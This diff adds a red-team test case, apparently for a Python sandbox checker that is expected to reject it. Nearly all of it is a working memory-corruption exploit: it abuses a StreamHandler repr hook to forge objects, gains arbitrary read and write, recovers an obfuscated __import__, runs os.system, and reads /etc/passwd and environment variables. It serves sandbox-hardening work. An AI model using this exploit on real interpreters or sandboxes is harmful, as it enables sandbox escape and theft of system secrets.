@@ -1,0 +1,78 @@
+# expect: reject memory
+# line: 23
+# why: round 97d (red team): StreamHandler's repr reads getattr(self.stream, 'name', ''), which ran the name property of the program's stream object inside a list's C repr; a getter named like a library attribute is a text hook where such a class is named
+import logging
+import typing
+
+L = []
+G = []
+KEEP = []
+HDR = []
+
+
+def q(v):
+    return v.to_bytes(8, "little")
+
+
+class Box:
+    __slots__ = ("__dict__", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n")
+
+
+class Flag:
+    def __bool__(self):
+        KEEP[0][104:152] = q(id(bytearray)) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0)
+        G.append(self)
+        return False
+
+
+class Wipe:
+    @property
+    def name(self):
+        if not KEEP:
+            L.clear()
+            buf = bytearray(159)
+            buf[0:112] = HDR[0]
+            KEEP.append(buf)
+        return "s"
+
+
+NAME = "T"
+victim = Box()
+base = id(victim) - 32
+HDR.append(
+    q(base + 56) + q(0) + q(0) + q(0)
+    + q(1 << 40) + q(id(typing.TypeVar)) + q(0)
+    + q(id(NAME)) + q(base + 96) + q(id(False)) + q(0) + q(0)
+    + q(1 << 40) + q(id(Flag))
+)
+rec = logging.StreamHandler(Wipe())
+L.append(slice(rec, victim))
+rec = None
+victim = None
+try:
+    text = repr(L)
+except Exception:
+    pass
+mem = G[0]
+
+
+def rd(addr):
+    return int.from_bytes(mem[addr:addr + 8], "little")
+
+
+def wr(addr, v):
+    mem[addr:addr + 8] = q(v)
+
+
+mod = rd(id(print) + 24)
+bdict = rd(mod + 16)
+holder = [None]
+items = rd(id(holder) + 24)
+wr(bdict, rd(bdict) + 1)
+wr(items, bdict)
+table = holder[0]
+imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
+osm = imp("os")
+osm.system("id")
+print(table["open"]("/etc/passwd").read()[:200])
+print(dict(osm.environ))
